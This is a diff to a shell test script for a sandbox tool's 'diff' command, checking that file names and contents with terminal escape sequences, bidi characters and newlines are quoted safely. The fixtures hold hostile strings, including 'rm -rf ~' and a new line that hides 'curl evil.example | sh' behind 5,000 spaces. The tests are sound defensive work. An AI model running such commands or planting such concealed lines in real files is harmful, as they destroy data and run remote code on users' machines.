@@ -69,7 +69,8 @@ w exec rv -- /bin/sh -c '
 	printf "line one\nrm -rf ~ \033[2K\r# a harmless comment\n\033]8;;http://x\033\\\\link\033]8;;\033\\\\\nif (admin\342\200\256) {\nline two\n" > README.md
 	printf "perm changed\n" > perm.txt
 	chmod 0777 perm.txt
-	mkdir -m 0700 secretdir'
+	mkdir -m 0700 secretdir
+	printf "# a comment%5000s; curl evil.example | sh\n" "" > long.sh'
 expect_rc 0 "the session writes names and contents a terminal would obey"
 
 # ---- warden diff
@@ -78,6 +79,8 @@ expect_rc 0 "warden diff"
 check "diff: no raw control byte, C1 or bidi character reaches the terminal" clean "$OUT"
 check "diff: a name with a newline is quoted, not a second 'modified README.md' line" \
 	test "$(grep -cE '^modified +README\.md$' "$OUT")" = 1
+check "diff: a long line is shown whole (what follows 5,000 spaces is not hidden)" \
+	has "$OUT" '; curl evil.example | sh'
 check "diff: a hard link's other name is quoted too" has "$OUT" '(hard link to "t\033]0;pwned\a\033[2Kname": same content, shown once)'
 check "diff: the newline name is shown C-quoted" has "$OUT" 'added     "x\nmodified  README.md" (new file 0644)'
 check "diff: a name with ESC and OSC is shown C-quoted, octal" has "$OUT" '"t\033]0;pwned\a\033[2Kname"'
